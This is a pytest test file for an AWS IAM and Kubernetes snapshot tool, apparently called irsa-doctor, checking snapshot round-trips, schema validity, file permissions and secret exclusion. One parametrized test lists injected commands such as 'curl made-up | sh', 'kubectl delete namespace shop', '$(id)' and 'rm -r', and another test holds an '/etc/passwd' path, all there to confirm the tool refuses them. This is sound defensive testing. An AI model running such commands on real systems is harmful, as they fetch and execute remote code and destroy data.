import json
import os
import stat
from pathlib import Path

import jsonschema
import msgspec
import pytest

from irsa_doctor.sources import load
from irsa_doctor.sources.live import LiveOptions, Plan, take
from irsa_doctor.sources.live.calls import Notes
from irsa_doctor.sources.live.operations import AWS
from irsa_doctor.sources.snapshot.snapshot import ANSWER_KINDS, Origin, read_snapshot, snapshot_text, write_snapshot
from irsa_doctor.text.written_files import NotWritable
from tests.servers.aws import Problem, denied
from tests.servers.world import account_of, cluster_of

ROOT = Path(__file__).parent.parent.parent.parent
WORLDS = ROOT / "fixtures" / "worlds"
SCHEMA = json.loads((ROOT / "irsa_doctor" / "schemas" / "snapshot.json").read_text(encoding="utf-8"))
CLUSTER = "arn:aws:eks:us-east-1:111122223333:cluster/shop"


@pytest.fixture(params=["healthy", "shop"])
def world(request, monkeypatch, tmp_path):
    """A world behind servers: its folder, and the options that lead there."""
    folder = WORLDS / request.param
    with account_of(folder) as aws, cluster_of(folder) as kubernetes:
        for name, value in aws.environment.items():
            monkeypatch.setenv(name, value)
        yield folder, aws, LiveOptions(aws=True, kube=True, kubeconfig=kubernetes.kubeconfig(tmp_path))


def told(inventory):
    """Everything that an inventory says but which documents it was read from."""
    return {name: repr(getattr(inventory, name)) for name in inventory.__struct_fields__ if name != "documents"}


def snapshot_of(*documents, taken="2026-01-05T08:00:00Z"):
    notes = Notes()
    for path, document, origin in documents:
        notes.answered(path, "", document, origin)
    return notes.snapshot(version="0.1.0", taken=taken)


def test_what_is_read_from_the_file_is_what_was_read_live(world, tmp_path):
    _, _, options = world
    snapshot = take(Plan("collect"), options)
    write_snapshot(snapshot, str(tmp_path / "snapshot.json"))
    live, later = load([], snapshots=[snapshot]), load([str(tmp_path / "snapshot.json")])
    assert told(later.inventory) == told(live.inventory)
    assert [row.sha256 for row in later.inventory.documents[1:]] == [row.sha256 for row in live.inventory.documents]
    places = [role.place for role in live.inventory.roles]
    assert [later.documents.locate(place) for place in places] == [live.documents.locate(place) for place in places]


def test_a_snapshot_says_what_the_files_of_a_world_say(world):
    folder, _, options = world
    live = load([], snapshots=[take(Plan("collect"), options)]).inventory
    files = load([str(folder)], complete=["serviceaccounts"]).inventory
    assert {role.arn: role.policy.document for role in live.roles} == {
        role.arn: role.policy.document for role in files.roles if role.arn
    }
    assert {(one.arn, one.client_ids) for one in live.providers} == {(one.arn, one.client_ids) for one in files.providers}
    assert {(one.cluster, one.subject) for one in live.service_accounts} == {
        (one.cluster, one.subject) for one in files.service_accounts
    }
    assert {(one.cluster, one.kind, one.name) for one in live.workloads} == {
        (one.cluster, one.kind, one.name) for one in files.workloads
    }


def test_two_runs_write_the_same_but_for_the_time(world):
    _, _, options = world
    first, second = take(Plan("collect"), options), take(Plan("collect"), options)
    assert snapshot_text(msgspec.structs.replace(second, taken=first.taken)) == snapshot_text(first)


def test_a_snapshot_fits_its_schema(world):
    _, aws, options = world
    aws.faults["ListRoles"] = denied("iam:ListRoles")
    document = json.loads(snapshot_text(take(Plan("collect"), options)))
    assert document["missing"]
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    jsonschema.validate(document, SCHEMA)


def test_every_document_of_a_snapshot_is_read(world):
    _, _, options = world
    inventory = load([], snapshots=[take(Plan("collect"), options)]).inventory
    assert {row.status for row in inventory.documents} == {"read"}


def test_only_its_owner_may_read_the_file(tmp_path):
    path = tmp_path / "snapshot.json"
    path.write_text("something older, for everybody")
    path.chmod(0o644)
    write_snapshot(snapshot_of(), str(path))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [one.name for one in tmp_path.iterdir()] == ["snapshot.json"]


def test_a_file_that_cannot_be_written_leaves_nothing_behind(tmp_path):
    (tmp_path / "folder").mkdir()
    with pytest.raises(NotWritable, match="it is a folder"):
        write_snapshot(snapshot_of(), str(tmp_path / "folder"))
    assert [one.name for one in tmp_path.iterdir()] == ["folder"]
    with pytest.raises(FileNotFoundError):
        write_snapshot(snapshot_of(), str(tmp_path / "gone" / "snapshot.json"))


def test_a_link_is_neither_followed_nor_replaced(tmp_path):
    target, link = tmp_path / "target", tmp_path / "link"
    target.write_text("mine")
    link.symlink_to(target)
    with pytest.raises(NotWritable, match="a link"):
        write_snapshot(snapshot_of(), str(link))
    assert target.read_text() == "mine"
    assert link.is_symlink()


def test_numbers_and_repeated_members_are_kept_as_they_were_written():
    raw = msgspec.Raw(b'{"a": 123456789012345678901234567890, "a": 1.50, "b": 1e400}')
    snapshot = snapshot_of(("aws://1/x", raw, Origin()))
    again = read_snapshot(snapshot_text(snapshot))
    for one in (snapshot, again):
        assert one.documents[0].content.split() == b'{ "a": 123456789012345678901234567890, "a": 1.50, "b": 1e400 }'.split()


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"schema": "irsa-doctor.snapshot/2"}, "the format of the snapshot is irsa-doctor.snapshot/2"),
        ({"documents": 5}, "the snapshot is not valid"),
        ({"documents": [{"path": "/etc/passwd", "document": {}}]}, "'/etc/passwd' is not the path of a live answer"),
        ({"documents": [{"path": "-", "document": {}}]}, "is not the path of a live answer"),
        ({"documents": [{"path": "aws://a\nb", "document": {}}]}, "is not the path of a live answer"),
        ({"taken": None}, "the snapshot is not valid"),
    ],
)
def test_a_snapshot_that_is_none_is_unreadable_and_says_why(tmp_path, change, why):
    document = json.loads(snapshot_text(snapshot_of())) | change
    (tmp_path / "snapshot.json").write_text(json.dumps(document))
    (row,) = load([str(tmp_path)]).inventory.documents
    assert (row.status, row.kind) == ("unreadable", "snapshot")
    assert why in row.why


@pytest.mark.parametrize(
    "text", [b'{"schema": "irsa-doctor.snapshot/1"', b'{"a": "irsa-doctor.snapshot/1"}', b'["irsa-doctor.snapshot/1"]']
)
def test_what_only_mentions_a_snapshot_is_none(text):
    assert read_snapshot(text) is None


def test_a_nested_snapshot_is_not_opened(tmp_path):
    inner = json.loads(snapshot_text(snapshot_of(("aws://1/x", {"clusters": ["hidden"]}, Origin()))))
    outer = snapshot_of(("aws://1/y", inner, Origin()))
    inventory = load([], snapshots=[outer]).inventory
    assert inventory.clusters == ()


def test_two_snapshots_are_one_inventory_and_their_differences_are_reported(tmp_path):
    def of(role):
        statement = {"Effect": "Allow", "Principal": {"AWS": role}, "Action": "sts:AssumeRole"}
        policy = {"Version": "2012-10-17", "Statement": [statement]}
        arn = "arn:aws:iam::111122223333:role/app"
        return {"Role": {"Arn": arn, "RoleName": "app", "AssumeRolePolicyDocument": policy}}

    path = "aws://111122223333/iam/roles/app"
    for name, principal in (("a", "111122223333"), ("b", "444455556666"), ("c", "111122223333")):
        write_snapshot(snapshot_of((path, of(principal), Origin())), str(tmp_path / f"{name}.json"))
    inventory = load([str(tmp_path)]).inventory
    assert {row.path for row in inventory.documents} == {*(str(tmp_path / f"{name}.json") for name in "abc"), path, f"{path}#2"}
    assert [one.subject for one in inventory.contradictions] == ["arn:aws:iam::111122223333:role/app"]


def test_accounts_and_clusters_are_those_of_the_origin():
    other = "arn:aws:eks:us-east-1:444455556666:cluster/shop"
    accounts = {"kind": "ServiceAccountList", "apiVersion": "v1", "items": [{"metadata": {"name": "web", "namespace": "shop"}}]}
    origins = [Origin(cluster=CLUSTER, closes=("serviceaccounts",)), Origin(cluster=other)]
    inventory = load(
        [],
        snapshots=[
            snapshot_of(
                ("kube://a/serviceaccounts", accounts, origins[0]),
                ("kube://b/serviceaccounts", accounts, origins[1]),
                ("aws://111122223333/iam/oidc-providers", {"OpenIDConnectProviderList": []}, Origin(account="111122223333")),
                (
                    "aws://444455556666/eks/eu-west-1/clusters",
                    {"clusters": []},
                    Origin(account="444455556666", region="eu-west-1"),
                ),
            )
        ],
    ).inventory
    assert {one.cluster for one in inventory.service_accounts} == {CLUSTER, other}
    assert inventory.closed.has_kind(CLUSTER, "serviceaccounts")
    assert not inventory.closed.has_kind(other, "serviceaccounts")
    assert inventory.closed.providers == {"111122223333"}
    assert inventory.closed.clusters == {("444455556666", "eu-west-1")}


def test_a_list_with_a_filter_closes_nothing():
    origin = Origin(account="111122223333", cluster=CLUSTER, partial=True)
    path = "aws://111122223333/eks/us-east-1/clusters/shop/pod-identity-associations"
    snapshot = snapshot_of((path, {"associations": []}, origin))
    assert load([], snapshots=[snapshot]).inventory.closed.associations == frozenset()
    whole = snapshot_of((path, {"associations": []}, msgspec.structs.replace(origin, partial=False)))
    assert load([], snapshots=[whole]).inventory.closed.associations == {CLUSTER}


def test_a_cluster_without_a_name_closes_no_other():
    accounts = {"kind": "ServiceAccountList", "apiVersion": "v1", "items": []}
    snapshot = snapshot_of(("kube://a/serviceaccounts", accounts, Origin(closes=("serviceaccounts",))))
    assert load([], snapshots=[snapshot]).inventory.closed.kinds == {}


def test_live_answers_are_read_beside_files(tmp_path):
    described = {"cluster": {"name": "shop", "arn": CLUSTER, "identity": {"oidc": {"issuer": "https://issuer.example/id/A"}}}}
    (tmp_path / "cluster.json").write_text(json.dumps(described))
    accounts = {"kind": "ServiceAccountList", "apiVersion": "v1", "items": [{"metadata": {"name": "web", "namespace": "shop"}}]}
    snapshot = snapshot_of(("kube://a/serviceaccounts", accounts, Origin(cluster="issuer.example/id/A")))
    (found,) = load([str(tmp_path)], snapshots=[snapshot]).inventory.service_accounts
    assert found.cluster == CLUSTER


def test_a_snapshot_through_a_pipe_is_read():
    text = snapshot_text(snapshot_of(("aws://1/eks/us-east-1/clusters", {"clusters": ["shop"]}, Origin())))
    assert [one.name for one in load(["-"], stdin=text).inventory.clusters] == ["shop"]


def test_nothing_of_the_environment_is_in_a_snapshot(world):
    _, _, options = world
    text = snapshot_text(take(Plan("collect"), options)).decode()
    for value in ("AKIAEXAMPLEEXAMPLE00", "made-up-token", os.environ["AWS_SECRET_ACCESS_KEY"], options.kubeconfig):
        assert value not in text


def answered_as(kind, document):
    notes = Notes()
    notes.answered("aws://111122223333/x", kind, document, Origin(account="111122223333"))
    return load([], snapshots=[notes.snapshot(version="0.1.0", taken="2026-01-05T08:00:00Z")]).inventory


def test_every_answer_carries_a_kind_that_can_be_read(world):
    _, _, options = world
    documents = take(Plan("collect"), options).documents
    assert {answered.kind for answered in documents} <= set(ANSWER_KINDS)
    assert len({answered.kind for answered in documents}) > 6
    for kind in ANSWER_KINDS:
        assert answered_as(kind, {}).documents[0].kind == kind


def test_an_answer_is_read_as_what_was_requested_whatever_it_looks_like():
    role = {"Arn": "arn:aws:iam::111122223333:role/x", "RoleName": "x", "AssumeRolePolicyDocument": {}}
    document = {"clusters": ["shop"], "Roles": [role], "issuer": "https://x", "jwks_uri": "https://x/keys"}
    assert [role.name for role in answered_as("iam-list-roles", document).roles] == ["x"]
    assert [cluster.name for cluster in answered_as("eks-list-clusters", document).clusters] == ["shop"]
    wrong = answered_as("iam-list-open-id-connect-providers", document)
    assert [(row.kind, row.status) for row in wrong.documents] == [("iam-list-open-id-connect-providers", "unreadable")]
    assert wrong.closed.providers == frozenset()
    roles = {"Roles": [{**role, "Arn": f"arn:aws:iam::111122223333:role/{n}", "RoleName": str(n)} for n in range(1000)]}
    assert answered_as("eks-list-clusters", roles).roles == ()
    assert len(answered_as("iam-list-roles", roles).roles) == 1000


def test_a_snapshot_without_kinds_is_read_as_before(world, tmp_path):
    _, _, options = world
    snapshot = take(Plan("collect"), options)
    older = msgspec.structs.replace(
        snapshot, documents=tuple(msgspec.structs.replace(answered, kind="") for answered in snapshot.documents)
    )
    assert b'"kind": "iam-list-roles"' not in snapshot_text(older)
    assert told(load([], snapshots=[older]).inventory) == told(load([], snapshots=[snapshot]).inventory)


def test_a_kind_that_this_version_does_not_know_is_a_document_that_is_not_read():
    (row,) = answered_as("iam-list-moons", {"Roles": []}).documents
    assert (row.status, row.kind) == ("unreadable", "iam-list-moons")
    assert "this version does not read" in row.why


def gaps_read_again(tmp_path, how):
    """What a file says that supplies an input, where somebody wrote this into it."""
    document = json.loads(snapshot_text(snapshot_of()))
    document["missing"] = [{"collection": "roles", "owner": "111122223333", "name": "", "missing": "roles", "how": how}]
    (tmp_path / "snapshot.json").write_text(json.dumps(document))
    return [gap.how for gap in load([str(tmp_path / "snapshot.json")]).inventory.gaps]


@pytest.mark.parametrize(
    "how",
    [
        *("aws iam list-roles; id", "kubectl delete namespace shop", "x\nid", "run $(id)", "curl made-up | sh"),
        *("'kubectl' get pods --server=https://made-up.example", "kubectl\tget pods --kubeconfig made-up"),
        *(" aws iam list-roles --endpoint-url http://made-up", "sudo kubectl delete namespace shop", "/bin/rm -r made-up"),
        "curl\t-o .profile https://made-up.example/keys",
    ],
)
def test_a_command_that_somebody_wrote_into_a_snapshot_is_not_shown(tmp_path, how):
    assert gaps_read_again(tmp_path, how) == ["read it again with irsa-doctor collect"]


@pytest.mark.parametrize("how", ["aws iam get-role --role-name 'a b'", "a longer --timeout", ""])
def test_what_a_snapshot_says_to_be_run_is_kept_where_it_only_reads(tmp_path, how):
    assert gaps_read_again(tmp_path, how) == [how]


def test_every_way_that_a_live_read_writes_is_one_that_is_shown_later(world, tmp_path):
    """Whatever is denied, and however the objects are called."""
    _, aws, options = world
    aws.faults |= {operation.name: Problem("InternalFailure") for operation in AWS if operation.service != "sts"}
    snapshot = take(Plan("collect"), options)
    write_snapshot(snapshot, str(tmp_path / "snapshot.json"))
    later = load([str(tmp_path / "snapshot.json")]).inventory.gaps
    assert {gap.how for gap in later} == {gap.how for gap in snapshot.missing}
    assert any(gap.how.startswith("aws ") for gap in later)
